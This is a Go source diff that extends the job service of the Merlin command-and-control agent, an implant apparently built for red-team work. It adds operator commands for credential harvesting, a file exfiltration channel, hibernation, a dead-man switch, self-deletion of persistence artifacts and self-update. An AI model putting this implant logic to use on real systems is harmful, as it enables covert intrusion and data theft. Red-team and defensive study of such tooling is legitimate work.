@@ -23,6 +23,8 @@ package job
 
 import (
 	// Standard
+	"encoding/base64"
+	"encoding/json"
 	"fmt"
 	"os"
 	"strconv"
@@ -36,11 +38,34 @@ import (
 	"github.com/Ne0nd0g/merlin-message/jobs"
 
 	// Internal
+	oAuth "github.com/Ne0nd0g/merlin-agent/v2/authenticators/opaque"
+	"github.com/Ne0nd0g/merlin-agent/v2/channel"
+	"github.com/Ne0nd0g/merlin-agent/v2/cleanup"
 	"github.com/Ne0nd0g/merlin-agent/v2/cli"
+	"github.com/Ne0nd0g/merlin-agent/v2/clients"
+	"github.com/Ne0nd0g/merlin-agent/v2/clients/padding"
 	"github.com/Ne0nd0g/merlin-agent/v2/commands"
+	"github.com/Ne0nd0g/merlin-agent/v2/config"
+	"github.com/Ne0nd0g/merlin-agent/v2/core"
+	"github.com/Ne0nd0g/merlin-agent/v2/deadman"
+	"github.com/Ne0nd0g/merlin-agent/v2/exfil"
+	"github.com/Ne0nd0g/merlin-agent/v2/heap"
+	"github.com/Ne0nd0g/merlin-agent/v2/monitor"
+	"github.com/Ne0nd0g/merlin-agent/v2/purple"
+	"github.com/Ne0nd0g/merlin-agent/v2/record"
+	"github.com/Ne0nd0g/merlin-agent/v2/seal"
 	"github.com/Ne0nd0g/merlin-agent/v2/services/agent"
 	"github.com/Ne0nd0g/merlin-agent/v2/services/client"
+	"github.com/Ne0nd0g/merlin-agent/v2/services/job/dedup"
+	"github.com/Ne0nd0g/merlin-agent/v2/services/job/governor"
+	"github.com/Ne0nd0g/merlin-agent/v2/services/job/tracker"
+	"github.com/Ne0nd0g/merlin-agent/v2/services/message/chunk"
+	"github.com/Ne0nd0g/merlin-agent/v2/services/message/psk"
+	"github.com/Ne0nd0g/merlin-agent/v2/services/message/reload"
+	"github.com/Ne0nd0g/merlin-agent/v2/services/p2p"
 	"github.com/Ne0nd0g/merlin-agent/v2/socks"
+	"github.com/Ne0nd0g/merlin-agent/v2/update"
+	"github.com/Ne0nd0g/merlin-agent/v2/wipe"
 )
 
 // Service is the structure used to interact with job objects
@@ -53,6 +78,9 @@ type Service struct {
 // memoryService is an in-memory instantiation of the job service
 var memoryService *Service
 
+// streamSize is the smallest file, in bytes, that is streamed to the server instead of read into a message
+const streamSize = 8 << 20
+
 // in is a channel of incoming or input jobs for the agent to handle
 var in = make(chan jobs.Job, 100)
 
@@ -62,6 +90,14 @@ var out = make(chan jobs.Job, 100)
 func init() {
 	// Start go routine that checks for jobs or tasks to execute
 	go execute()
+	// Hold new jobs while results or peer-to-peer messages are backing up
+	governor.SetBackpressure(congested)
+}
+
+// congested returns true when the outgoing job results channel or any peer-to-peer Link's outgoing queue is more than
+// half full
+func congested() bool {
+	return len(out) > cap(out)/2 || p2p.NewP2PService().Congested()
 }
 
 // NewJobService is the factory to create a new service for handling Jobs
@@ -88,13 +124,47 @@ func (s *Service) AddResult(agent uuid.UUID, stdOut, stdErr string) {
 		Type:    jobs.RESULT,
 		Payload: result,
 	}
-	out <- job
+	queue(job)
+}
+
+// AddJobResult creates a Job Results structure for the job with the provided ID and token and places it in the out going
+// channel. It returns a result right away, such as a control command's output or why a job was refused, and the result
+// of a job that the Agent process this one replaced received
+func (s *Service) AddJobResult(id string, token uuid.UUID, stdOut, stdErr string) {
+	queue(jobs.Job{
+		ID:      id,
+		AgentID: s.Agent,
+		Token:   token,
+		Type:    jobs.RESULT,
+		Payload: jobs.Results{Stdout: stdOut, Stderr: stdErr},
+	})
+}
+
+// queue encrypts the job's results or file data in memory and adds it to the out channel
+func queue(job jobs.Job) {
+	out <- heap.SealJob(job)
+}
+
+// dequeue decrypts a job taken from the out channel; a job that can't be decrypted is replaced with an error result
+func dequeue(job jobs.Job) jobs.Job {
+	opened, err := heap.OpenJob(job)
+	if err != nil {
+		cli.Message(cli.WARN, fmt.Sprintf("services/job.dequeue(): %s", err))
+		return jobs.Job{
+			ID:      job.ID,
+			AgentID: job.AgentID,
+			Token:   job.Token,
+			Type:    jobs.RESULT,
+			Payload: jobs.Results{Stderr: fmt.Sprintf("there was an error decrypting the job's queued results: %s", err)},
+		}
+	}
+	return opened
 }
 
 // Get blocks waiting for a job from the out channel
 func (s *Service) Get() []jobs.Job {
 	cli.Message(cli.DEBUG, "services/job.Get(): entering into function")
-	job := <-out
+	job := dequeue(<-out)
 	cli.Message(cli.DEBUG, fmt.Sprintf("services/job.Check(): leaving function with: %+v", job))
 	return []jobs.Job{job}
 }
@@ -105,7 +175,7 @@ func (s *Service) Check() (returnJobs []jobs.Job) {
 	// Check the output channel
 	for {
 		if len(out) > 0 {
-			job := <-out
+			job := dequeue(<-out)
 			returnJobs = append(returnJobs, job)
 		} else {
 			break
@@ -124,6 +194,78 @@ func (s *Service) Control(job jobs.Job) {
 	switch strings.ToLower(cmd.Command) {
 	case "agentinfo":
 		// No action required; End of function gets and returns an Agent information structure
+	case "backup":
+		// The optional argument changes the promotion threshold and primary retry interval (e.g., 3:15m)
+		if len(cmd.Args) > 0 {
+			err := s.ClientService.SetBackup(cmd.Args[0])
+			if err != nil {
+				results.Stderr = fmt.Sprintf("there was an error setting the client's backup endpoint settings: %s", err)
+				break
+			}
+		}
+		results.Stdout = s.ClientService.Get().Get("endpoints")
+		if results.Stdout == "" || strings.HasPrefix(results.Stdout, "unknown client configuration setting") {
+			results.Stdout = "The client does not have a list of backup C2 endpoints"
+		}
+		s.AddJobResult(job.ID, job.Token, results.Stdout, results.Stderr)
+		return
+	case "channel":
+		if len(cmd.Args) < 1 {
+			results.Stderr = fmt.Sprintf("the channel control command requires at least 1 argument but received %d", len(cmd.Args))
+			break
+		}
+		switch strings.ToLower(cmd.Args[0]) {
+		case "list":
+			current := channel.Current()
+			for _, p := range channel.List() {
+				marker := " "
+				if p.Name == current {
+					marker = "*"
+				}
+				results.Stdout += fmt.Sprintf("%s %s\n", marker, p.String())
+			}
+			s.AddJobResult(job.ID, job.Token, results.Stdout, results.Stderr)
+			return
+		case "add":
+			if len(cmd.Args) < 2 {
+				results.Stderr = "the channel add control command requires a JSON profile or list of profiles"
+				break
+			}
+			list, err := channel.Parse(cmd.Args[1])
+			if err != nil {
+				results.Stderr = err.Error()
+				break
+			}
+			channel.Add(list)
+			for _, p := range list {
+				results.Stdout += fmt.Sprintf("Added the %s channel profile\n", p.Name)
+			}
+			s.AddJobResult(job.ID, job.Token, results.Stdout, results.Stderr)
+			return
+		default:
+			// The optional second argument is the comma separated URLs that replace the profile's and the Agent's
+			var urls string
+			if len(cmd.Args) > 1 {
+				urls = cmd.Args[1]
+			}
+			err := s.switchChannel(cmd.Args[0], urls)
+			if err != nil {
+				results.Stderr = fmt.Sprintf("there was an error switching the agent's channel profile: %s", err)
+				break
+			}
+			cli.Message(cli.NOTE, fmt.Sprintf("Switched agent channel profile to %s", cmd.Args[0]))
+		}
+	case "chunksize":
+		if len(cmd.Args) < 1 {
+			results.Stderr = fmt.Sprintf("the chunksize control command requires 1 argument but received %d", len(cmd.Args))
+			break
+		}
+		err := chunk.SetSize(cmd.Args[0])
+		if err != nil {
+			results.Stderr = fmt.Sprintf("there was an error setting the agent's message chunk size: %s", err)
+			break
+		}
+		cli.Message(cli.NOTE, fmt.Sprintf("Setting agent message chunk size to %d bytes", chunk.Size()))
 	case "connect":
 		if len(cmd.Args) < 1 {
 			results.Stderr = fmt.Sprintf("the \"connect\" command requires 1 argument, the new address, but received %d", len(cmd.Args))
@@ -134,11 +276,86 @@ func (s *Service) Control(job jobs.Job) {
 		if err != nil {
 			results.Stderr = fmt.Sprintf("there was an error changing the client's connection address: %s", err)
 		}
+	case "deadman":
+		if len(cmd.Args) < 1 {
+			results.Stderr = fmt.Sprintf("the deadman control command requires at least 1 argument but received %d", len(cmd.Args))
+			break
+		}
+		if len(cmd.Args) > 1 {
+			err := deadman.SetAction(cmd.Args[1])
+			if err != nil {
+				results.Stderr = err.Error()
+				break
+			}
+		}
+		err := deadman.SetWindow(cmd.Args[0])
+		if err != nil {
+			results.Stderr = err.Error()
+			break
+		}
+		cli.Message(cli.NOTE, fmt.Sprintf("Setting agent dead-man switch to: %s", deadman.String()))
 	case "exit":
-		os.Exit(0)
+		cleanup.Exit()
+	case "exfil":
+		if len(cmd.Args) < 1 {
+			results.Stderr = fmt.Sprintf("the exfil control command requires at least 1 argument but received %d", len(cmd.Args))
+			break
+		}
+		target := cmd.Args[0]
+		if strings.ToLower(target) == "none" {
+			target = ""
+		}
+		err := exfil.SetChannel(target)
+		if err != nil {
+			results.Stderr = err.Error()
+			break
+		}
+		if len(cmd.Args) > 1 {
+			err = exfil.SetThreshold(cmd.Args[1])
+			if err != nil {
+				results.Stderr = err.Error()
+				break
+			}
+		}
+		target, threshold := exfil.Channel()
+		cli.Message(cli.NOTE, fmt.Sprintf("Setting agent split-tunnel data channel to %q for transfers of %d bytes or more", target, threshold))
+	case "hibernate":
+		if len(cmd.Args) < 1 {
+			results.Stderr = fmt.Sprintf("the hibernate control command requires 1 argument but received %d", len(cmd.Args))
+			break
+		}
+		// The argument is either a duration (e.g., 72h) or an RFC3339 timestamp to hibernate until
+		var until time.Time
+		d, err := time.ParseDuration(cmd.Args[0])
+		if err == nil {
+			until = time.Now().Add(d)
+		} else {
+			until, err = time.Parse(time.RFC3339, cmd.Args[0])
+			if err != nil {
+				results.Stderr = fmt.Sprintf("there was an error parsing the hibernation duration or RFC3339 time %s", cmd.Args[0])
+				break
+			}
+		}
+		if !until.After(time.Now()) {
+			results.Stderr = fmt.Sprintf("the hibernation end time %s is not in the future", until.UTC().Format(time.RFC3339))
+			break
+		}
+		s.AgentService.SetHibernate(until)
+		cli.Message(cli.NOTE, fmt.Sprintf("Setting agent to hibernate until %s", until.UTC().Format(time.RFC3339)))
 	case "initialize":
 		cli.Message(cli.NOTE, "Received agent re-initialize message")
 		s.AgentService.SetAuthenticated(false)
+	case "interpreter":
+		if len(cmd.Args) < 1 {
+			results.Stderr = fmt.Sprintf("the interpreter control command requires 1 argument but received %d", len(cmd.Args))
+			break
+		}
+		err := commands.SetInterpreter(cmd.Args[0])
+		if err != nil {
+			results.Stderr = fmt.Sprintf("there was an error setting the agent's default interpreter: %s", err)
+			break
+		}
+		cli.Message(cli.NOTE, fmt.Sprintf("Setting agent default interpreter to %s", cmd.Args[0]))
 	case "ja3":
 		if len(cmd.Args) < 1 {
 			results.Stderr = fmt.Sprintf("the ja3 control command requires 1 argument but received %d", len(cmd.Args))
@@ -148,18 +365,33 @@ func (s *Service) Control(job jobs.Job) {
 		if err != nil {
 			results.Stderr = fmt.Sprintf("there was an error setting the client's JA3 string:\r\n%s", err.Error())
 		}
+	case "jobrate":
+		if len(cmd.Args) < 1 {
+			results.Stderr = fmt.Sprintf("the jobrate control command requires 1 argument but received %d", len(cmd.Args))
+			break
+		}
+		err := governor.SetRate(cmd.Args[0])
+		if err != nil {
+			results.Stderr = fmt.Sprintf("there was an error setting the agent's maximum jobs per minute: %s", err)
+			break
+		}
+		cli.Message(cli.NOTE, fmt.Sprintf("Setting agent task rate governor to %s", governor.String()))
 	case "killdate":
 		if len(cmd.Args) < 1 {
 			results.Stderr = fmt.Sprintf("the killdate control command requires 1 argument but received %d", len(cmd.Args))
 			break
 		}
-		d, err := strconv.Atoi(cmd.Args[0])
+		d, err := strconv.ParseInt(cmd.Args[0], 10, 64)
 		if err != nil {
 			results.Stderr = fmt.Sprintf("there was an error converting the kill date to an integer: %s", err)
 			break
 		}
-		s.AgentService.SetKillDate(int64(d))
-		cli.Message(cli.INFO, fmt.Sprintf("Set Kill Date to: %s", time.Unix(int64(d), 0).UTC().Format(time.RFC3339)))
+		err = s.Reconfigure(reload.Config{KillDate: &d})
+		if err != nil {
+			results.Stderr = fmt.Sprintf("there was an error changing the agent kill date: %s", err)
+			break
+		}
+		cli.Message(cli.INFO, fmt.Sprintf("Set Kill Date to: %s", time.Unix(d, 0).UTC().Format(time.RFC3339)))
 	case "listener":
 		if len(cmd.Args) < 1 {
 			results.Stderr = fmt.Sprintf("the listener control command requires 1 argument but received %d", len(cmd.Args))
@@ -183,17 +415,43 @@ func (s *Service) Control(job jobs.Job) {
 		}
 		s.AgentService.SetMaxRetry(t)
 		cli.Message(cli.NOTE, fmt.Sprintf("Setting agent max retries to %d", t))
+	case "netjobs":
+		if len(cmd.Args) < 1 {
+			results.Stderr = fmt.Sprintf("the netjobs control command requires 1 argument but received %d", len(cmd.Args))
+			break
+		}
+		err := governor.SetConcurrent(cmd.Args[0])
+		if err != nil {
+			results.Stderr = fmt.Sprintf("there was an error setting the agent's maximum concurrent network jobs: %s", err)
+			break
+		}
+		cli.Message(cli.NOTE, fmt.Sprintf("Setting agent task rate governor to %s", governor.String()))
+	case "p2psleep":
+		if len(cmd.Args) < 1 {
+			results.Stderr = fmt.Sprintf("the p2psleep control command requires at least 1 argument but received %d", len(cmd.Args))
+			break
+		}
+		var jitter string
+		if len(cmd.Args) > 1 {
+			jitter = cmd.Args[1]
+		}
+		err := s.ClientService.SetPace(cmd.Args[0], jitter)
+		if err != nil {
+			results.Stderr = fmt.Sprintf("there was an error setting the peer-to-peer client's sleep and jitter: %s", err)
+			break
+		}
+		cli.Message(cli.NOTE, fmt.Sprintf("Setting agent peer-to-peer client sleep to %s with %s%% jitter", cmd.Args[0], jitter))
 	case "padding":
 		if len(cmd.Args) < 1 {
 			results.Stderr = fmt.Sprintf("the padding control command requires 1 argument but received %d", len(cmd.Args))
 			break
 		}
-		err := s.ClientService.SetPadding(cmd.Args[0])
+		err := s.Reconfigure(reload.Config{Padding: &cmd.Args[0]})
 		if err != nil {
 			results.Stderr = fmt.Sprintf("there was an error changing the agent message padding size: %s", err)
 			break
 		}
-		cli.Message(cli.NOTE, fmt.Sprintf("Setting agent message maximum padding size to %s", cmd.Args[0]))
+		cli.Message(cli.NOTE, fmt.Sprintf("Setting agent message padding to %s", cmd.Args[0]))
 	case "parrot":
 		if len(cmd.Args) < 1 {
 			results.Stderr = fmt.Sprintf("the parrot command requires 1 argument but received %d", len(cmd.Args))
@@ -210,38 +468,185 @@ func (s *Service) Control(job jobs.Job) {
 		err := s.ClientService.Reset()
 		if err != nil {
 			results.Stderr = fmt.Sprintf("there was an error resetting the client's listener:%s", err)
-			out <- jobs.Job{
-				ID:      job.ID,
-				AgentID: s.Agent,
-				Token:   job.Token,
-				Type:    jobs.RESULT,
-				Payload: results,
-			}
+			s.AddJobResult(job.ID, job.Token, results.Stdout, results.Stderr)
 		}
 		return
+	case "resume":
+		if len(cmd.Args) < 1 {
+			results.Stderr = fmt.Sprintf("the resume control command requires at least 1 argument but received %d", len(cmd.Args))
+			break
+		}
+		// The server issues an encrypted resumption token, and how long it is valid, so the Agent can resume its
+		// session in one round trip instead of redoing OPAQUE authentication after a short network outage
+		if strings.ToLower(cmd.Args[0]) == "none" {
+			err := oAuth.SetResumption("", 0)
+			if err != nil {
+				results.Stderr = err.Error()
+				break
+			}
+			cli.Message(cli.NOTE, "Removed the agent's session resumption token")
+			break
+		}
+		if len(cmd.Args) < 2 {
+			results.Stderr = fmt.Sprintf("the resume control command requires 2 arguments, the token and its time to live, but received %d", len(cmd.Args))
+			break
+		}
+		ttl, err := time.ParseDuration(cmd.Args[1])
+		if err != nil {
+			results.Stderr = fmt.Sprintf("there was an error parsing the resumption token time to live %s: %s", cmd.Args[1], err)
+			break
+		}
+		err = oAuth.SetResumption(cmd.Args[0], ttl)
+		if err != nil {
+			results.Stderr = err.Error()
+			break
+		}
+		expires, _ := oAuth.Resumable()
+		cli.Message(cli.NOTE, fmt.Sprintf("Setting agent session resumption token valid until %s", expires.UTC().Format(time.RFC3339)))
+	case "rotation":
+		if len(cmd.Args) < 1 {
+			results.Stderr = fmt.Sprintf("the rotation control command requires 1 argument but received %d", len(cmd.Args))
+			break
+		}
+		err := s.ClientService.SetRotation(cmd.Args[0])
+		if err != nil {
+			results.Stderr = fmt.Sprintf("there was an error setting the client's URL rotation strategy: %s", err)
+		}
 	case "skew":
 		if len(cmd.Args) < 1 {
 			results.Stderr = fmt.Sprintf("the skew control command requires 1 argument but received %d", len(cmd.Args))
 			break
 		}
 		t, err := strconv.ParseInt(cmd.Args[0], 10, 64)
+		if err == nil {
+			err = s.Reconfigure(reload.Config{Jitter: &t})
+		}
 		if err != nil {
 			results.Stderr = fmt.Sprintf("there was an error changing the agent skew interval: %s", err)
 			break
 		}
-		s.AgentService.SetSkew(t)
 		cli.Message(cli.NOTE, fmt.Sprintf("Setting agent skew interval to %d", t))
+	case "throttle":
+		if len(cmd.Args) < 1 {
+			results.Stderr = fmt.Sprintf("the throttle control command requires 1 argument but received %d", len(cmd.Args))
+			break
+		}
+		err := s.ClientService.SetThrottle(cmd.Args[0])
+		if err != nil {
+			results.Stderr = fmt.Sprintf("there was an error setting the client's outbound bandwidth throttle: %s", err)
+			break
+		}
+		cli.Message(cli.NOTE, fmt.Sprintf("Setting agent outbound bandwidth throttle to %s bytes per second", cmd.Args[0]))
+	case "transport":
+		if len(cmd.Args) < 2 {
+			results.Stderr = fmt.Sprintf("the transport control command requires at least 2 arguments, the protocol and URLs, but received %d", len(cmd.Args))
+			break
+		}
+		// The optional third argument is a configuration, in the format the config module exports, for the new client
+		var c config.Config
+		if len(cmd.Args) > 2 {
+			err := json.Unmarshal([]byte(cmd.Args[2]), &c)
+			if err != nil {
+				results.Stderr = fmt.Sprintf("there was an error parsing the transport configuration: %s", err)
+				break
+			}
+		}
+		err := s.ClientService.Transport(cmd.Args[0], cmd.Args[1], c.Settings)
+		if err != nil {
+			results.Stderr = fmt.Sprintf("there was an error switching the agent's transport: %s", err)
+			break
+		}
+		for setting, value := range c.Settings {
+			config.Set(setting, value)
+		}
+		config.Set("proto", strings.ToLower(cmd.Args[0]))
+		config.Set("url", cmd.Args[1])
+		cli.Message(cli.NOTE, fmt.Sprintf("Switched agent transport to %s %s", cmd.Args[0], cmd.Args[1]))
+	case "seal":
+		if len(cmd.Args) < 1 {
+			results.Stderr = fmt.Sprintf("the seal control command requires at least 1 argument but received %d", len(cmd.Args))
+			break
+		}
+		value := cmd.Args[0]
+		if strings.ToLower(value) == "none" {
+			value = ""
+		}
+		err := seal.SetKey(value)
+		if err != nil {
+			results.Stderr = err.Error()
+			break
+		}
+		if len(cmd.Args) > 1 {
+			seal.SetCommands(cmd.Args[1])
+		}
+		cli.Message(cli.NOTE, fmt.Sprintf("Setting agent result sealing: %s", seal.String()))
+	case "selfdelete":
+		// The arguments are the persistence artifacts the Agent was installed with
+		removed, errs := wipe.Persistence(cmd.Args)
+		errs = append(errs, wipe.Wipe()...)
+		results.Stdout = "The agent removed its executable and the files it wrote"
+		if len(removed) > 0 {
+			results.Stdout += fmt.Sprintf(" along with the persistence artifacts: %s", strings.Join(removed, ", "))
+		}
+		results.Stdout += "\nThe agent exits after this result is sent"
+		for _, err := range errs {
+			results.Stderr += err.Error() + "\n"
+		}
+		// Exit after the next successful check in reports the outcome instead of right away
+		wipe.Exit()
+		s.AddJobResult(job.ID, job.Token, results.Stdout, results.Stderr)
+		cli.Message(cli.NOTE, results.Stdout)
+		return
+	case "update":
+		if len(cmd.Args) < 1 {
+			results.Stderr = fmt.Sprintf("the update control command requires 1 argument, the base64 encoded signed executable, but received %d", len(cmd.Args))
+			break
+		}
+		data, err := base64.StdEncoding.DecodeString(cmd.Args[0])
+		if err != nil {
+			results.Stderr = fmt.Sprintf("there was an error base64 decoding the executable: %s", err)
+			break
+		}
+		executable, err := update.Verify(data)
+		if err != nil {
+			results.Stderr = err.Error()
+			break
+		}
+		// The new Agent returns this job's result after it continues the session
+		handover := update.Handover{
+			Agent:   s.Agent,
+			Job:     job.ID,
+			Token:   job.Token,
+			Version: fmt.Sprintf("%s (build %s)", core.Version, core.Build),
+			Serials: update.Serials{PSK: psk.Serial(), Config: reload.Serial()},
+			// The settings the server pushed, switched, or rotated replace the ones the updated Agent was built with
+			Settings: config.Effective(currentSettings()),
+		}
+		if resumer, ok := s.ClientService.Get().(clients.Resumer); ok {
+			session, errSession := resumer.Session()
+			if errSession != nil {
+				cli.Message(cli.WARN, errSession.Error())
+			} else {
+				handover.Session = &session
+			}
+		}
+		pid, err := update.Replace(executable, handover)
+		if err != nil {
+			results.Stderr = err.Error()
+			break
+		}
+		cli.Message(cli.NOTE, fmt.Sprintf("Started the updated agent as process %d, quitting...", pid))
+		cleanup.Exit()
 	case "sleep":
 		if len(cmd.Args) < 1 {
 			results.Stderr = fmt.Sprintf("the skew control command requires 1 argument but received %d", len(cmd.Args))
 			break
 		}
-		t, err := time.ParseDuration(cmd.Args[0])
+		err := s.Reconfigure(reload.Config{Sleep: &cmd.Args[0]})
 		if err != nil {
 			results.Stderr = fmt.Sprintf("there was an error changing the agent waitTime: %s", err)
 			break
 		}
-		s.AgentService.SetSleep(t)
 		cli.Message(cli.NOTE, fmt.Sprintf("Setting agent sleep time to %s", cmd.Args[0]))
 	default:
 		results.Stderr = fmt.Sprintf("%s is not a valid AgentControl message type.", cmd.Command)
@@ -250,13 +655,7 @@ func (s *Service) Control(job jobs.Job) {
 	// Add the result message to the job queue
 	// Only one job using the token can be returned, so it is either an error message or the AgentInfo structure
 	if results.Stderr != "" {
-		out <- jobs.Job{
-			ID:      job.ID,
-			AgentID: s.Agent,
-			Token:   job.Token,
-			Type:    jobs.RESULT,
-			Payload: results,
-		}
+		s.AddJobResult(job.ID, job.Token, results.Stdout, results.Stderr)
 		return
 	}
 
@@ -274,7 +673,7 @@ func (s *Service) Control(job jobs.Job) {
 		Type:    jobs.AGENTINFO,
 	}
 	aInfo.Payload = s.AgentService.AgentInfo()
-	out <- aInfo
+	queue(aInfo)
 	cli.Message(cli.DEBUG, fmt.Sprintf("services/job.Control(): leaving function with %+v", aInfo))
 }
 
@@ -285,6 +684,27 @@ func (s *Service) Handle(Jobs []jobs.Job) {
 		// If the job belongs to this agent
 		if job.AgentID == s.Agent {
 			cli.Message(cli.SUCCESS, fmt.Sprintf("%s job type received!", job.Type))
+			// A tasking that was already processed, such as a retransmission on a lossy transport, isn't executed again
+			if dedup.Tasking(job) && dedup.Seen(job) {
+				cli.Message(cli.NOTE, fmt.Sprintf("Skipping %s job %s because it was already processed", job.Type, job.ID))
+				continue
+			}
+			// In read-only monitor mode, only passive collection and reconnaissance jobs are executed
+			if err := monitor.Allowed(job); err != nil {
+				cli.Message(cli.WARN, err.Error())
+				s.AddJobResult(job.ID, job.Token, "", err.Error())
+				continue
+			}
+			// The queue module is answered right away, instead of waiting behind the jobs it lists
+			if job.Type == jobs.MODULE && strings.ToLower(job.Payload.(jobs.Command).Command) == "queue" {
+				s.AddJobResult(job.ID, job.Token, tracker.String(), "")
+				continue
+			}
+			// Track the jobs that are executed so the operator can see which are pending, running, and finished
+			switch job.Type {
+			case jobs.CMD, jobs.FILETRANSFER, jobs.MODULE, jobs.NATIVE, jobs.SHELLCODE:
+				tracker.Pending(job.ID, job.Type.String(), command(job))
+			}
 			switch job.Type {
 			case jobs.FILETRANSFER:
 				in <- job
@@ -301,21 +721,15 @@ func (s *Service) Handle(Jobs []jobs.Job) {
 				in <- job
 			// When AgentInfo or Result messages fail to send, they will circle back through the handler
 			case jobs.AGENTINFO:
-				out <- job
+				queue(job)
 			case jobs.RESULT:
-				out <- job
+				queue(job)
 			case jobs.SOCKS:
 				socks.Handler(job, &out)
 			default:
 				var result jobs.Results
 				result.Stderr = fmt.Sprintf("%s is not a valid job type", job.Type)
-				out <- jobs.Job{
-					ID:      job.ID,
-					AgentID: s.Agent,
-					Token:   job.Token,
-					Type:    jobs.RESULT,
-					Payload: result,
-				}
+				s.AddJobResult(job.ID, job.Token, result.Stdout, result.Stderr)
 			}
 		}
 	}
@@ -327,33 +741,99 @@ func execute() {
 	for {
 		var result jobs.Results
 		job := <-in
+		// Hold the job until the task rate governor allows another job to start
+		if waited := governor.Wait(); waited > time.Second {
+			cli.Message(cli.NOTE, fmt.Sprintf("Job %s was held for %s by the task rate governor or outgoing message backpressure", job.ID, waited.Round(time.Second)))
+		}
 		// Need a go routine here so that way a job or command doesn't block
 		go func(job jobs.Job) {
+			if networkHeavy(job) {
+				governor.Acquire()
+				defer governor.Release()
+			}
+			tracker.Running(job.ID)
+			if record.Enabled() {
+				recordJob(job)
+			}
 			switch job.Type {
 			case jobs.CMD:
 				result = commands.ExecuteCommand(job.Payload.(jobs.Command))
 			case jobs.FILETRANSFER:
 				if job.Payload.(jobs.FileTransfer).IsDownload {
 					result = commands.Download(job.Payload.(jobs.FileTransfer))
+					if result.Stderr == "" {
+						record.File(job.ID, "written", job.Payload.(jobs.FileTransfer).FileLocation)
+						wipe.Track(job.Payload.(jobs.FileTransfer).FileLocation)
+					}
 				} else {
+					record.File(job.ID, "collected", job.Payload.(jobs.FileTransfer).FileLocation)
+					if stdout, ok := stream(job); ok {
+						result.Stdout = stdout
+						break
+					}
 					ft, err := commands.Upload(job.Payload.(jobs.FileTransfer))
 					if err != nil {
 						result.Stderr = err.Error()
 					}
-					out <- jobs.Job{
+					if err == nil && seal.Sensitive("download") {
+						ft, err = seal.FileTransfer(ft)
+						if err != nil {
+							result.Stderr = fmt.Sprintf("the file was withheld because it could not be sealed: %s", err)
+							break
+						}
+					}
+					// Large transfers are sent over the split-tunnel data channel and only the transfer ID is returned
+					if err == nil && exfil.Routed(base64.StdEncoding.DecodedLen(len(ft.FileBlob))) {
+						id := job.ID
+						if id == "" {
+							id = uuid.NewString()
+						}
+						var data []byte
+						data, err = base64.StdEncoding.DecodeString(ft.FileBlob)
+						if err == nil {
+							result.Stdout, err = exfil.Send(id, ft.FileLocation, data)
+						}
+						if err == nil {
+							break
+						}
+						cli.Message(cli.WARN, fmt.Sprintf("%s, falling back to the control channel", err))
+					}
+					queue(jobs.Job{
 						AgentID: job.AgentID,
 						ID:      job.ID,
 						Token:   job.Token,
 						Type:    jobs.FILETRANSFER,
 						Payload: ft,
-					}
+					})
 				}
 			case jobs.MODULE:
 				switch strings.ToLower(job.Payload.(jobs.Command).Command) {
+				case "bridge":
+					result = commands.Bridge(job.Payload.(jobs.Command))
+				case "bundle":
+					result = commands.Bundle(job.Payload.(jobs.Command))
+				case "capabilities":
+					result = commands.Capabilities()
 				case "clr":
 					result = commands.CLR(job.Payload.(jobs.Command))
+				case "config":
+					result = exportConfig()
 				case "createprocess":
 					result = commands.CreateProcess(job.Payload.(jobs.Command))
+				case "credman":
+					result = commands.CredMan(job.Payload.(jobs.Command))
+				case "credprompt":
+					result = commands.CredPrompt(job.Payload.(jobs.Command))
+				case "firewall":
+					result = commands.Firewall(job.Payload.(jobs.Command))
+				case "git":
+					result = commands.Git(job.Payload.(jobs.Command))
+				case "guest":
+					result = commands.Guest(job.Payload.(jobs.Command))
+				case "hours":
+					result = commands.Hours(job.Payload.(jobs.Command))
+				case "input":
+					result = commands.Input(job.Payload.(jobs.Command))
 				case "link":
 					result = commands.Link(job.Payload.(jobs.Command))
 				case "listener":
@@ -367,23 +847,46 @@ func execute() {
 					if err != nil {
 						result.Stderr = err.Error()
 					}
-					out <- jobs.Job{
+					if err == nil && seal.Sensitive("minidump") {
+						ft, err = seal.FileTransfer(ft)
+						if err != nil {
+							result.Stderr = fmt.Sprintf("the minidump was withheld because it could not be sealed: %s", err)
+							break
+						}
+					}
+					queue(jobs.Job{
 						AgentID: job.AgentID,
 						ID:      job.ID,
 						Token:   job.Token,
 						Type:    jobs.FILETRANSFER,
 						Payload: ft,
-					}
+					})
 				case "netstat":
 					result = commands.Netstat(job.Payload.(jobs.Command))
+				case "page":
+					result = commands.Page(job.Payload.(jobs.Command))
+				case "pcap":
+					result = commands.Pcap(job.Payload.(jobs.Command))
 				case "runas":
 					result = commands.RunAs(job.Payload.(jobs.Command))
 				case "pipes":
 					result = commands.Pipes()
 				case "ps":
 					result = commands.PS()
+				case "purple":
+					result = commands.Purple(job.Payload.(jobs.Command))
+				case "record":
+					result = commands.Record(job.Payload.(jobs.Command))
+				case "secrets":
+					result = commands.Secrets(job.Payload.(jobs.Command))
+				case "session":
+					result = commands.Session(job.Payload.(jobs.Command))
+				case "share":
+					result = commands.Share(job.Payload.(jobs.Command))
 				case "ssh":
 					result = commands.SSH(job.Payload.(jobs.Command))
+				case "sshagent":
+					result = commands.SSHAgent(job.Payload.(jobs.Command))
 				case "unlink":
 					result = commands.Unlink(job.Payload.(jobs.Command))
 				case "uptime":
@@ -400,13 +903,280 @@ func execute() {
 			default:
 				result.Stderr = fmt.Sprintf("Invalid job type: %d", job.Type)
 			}
-			out <- jobs.Job{
+			// In purple-team mode, selected jobs also generate harmless artifacts labeled with the job ID for defenders,
+			// except in read-only monitor mode where nothing is written to the host
+			if job.Type != jobs.FILETRANSFER && purple.Selected(command(job)) && !monitor.Enabled() {
+				result.Stdout += purple.Detonate(job.ID, command(job))
+			}
+			// Structured output is normalized so it reads the same regardless of the host's locale
+			if job.Type == jobs.MODULE || job.Type == jobs.NATIVE {
+				result = commands.Normalize(result)
+			}
+			// The engagement record holds a hash of the output before it is sealed or paginated
+			if record.Enabled() {
+				record.Result(job.ID, command(job), result.Stdout, result.Stderr)
+			}
+			// Sensitive results are sealed to the operator's offline public key and never sent in the clear
+			if job.Type != jobs.FILETRANSFER && seal.Sensitive(command(job)) {
+				sealed, err := seal.Results(result)
+				if err != nil {
+					sealed = jobs.Results{Stderr: fmt.Sprintf("the results were withheld because they could not be sealed: %s", err)}
+				}
+				result = sealed
+			}
+			// Large output is stored and returned one page at a time, except for the page command itself
+			if job.Type != jobs.MODULE || strings.ToLower(job.Payload.(jobs.Command).Command) != "page" {
+				result = commands.Paginate(result)
+			}
+			queue(jobs.Job{
 				AgentID: job.AgentID,
 				ID:      job.ID,
 				Token:   job.Token,
 				Type:    jobs.RESULT,
 				Payload: result,
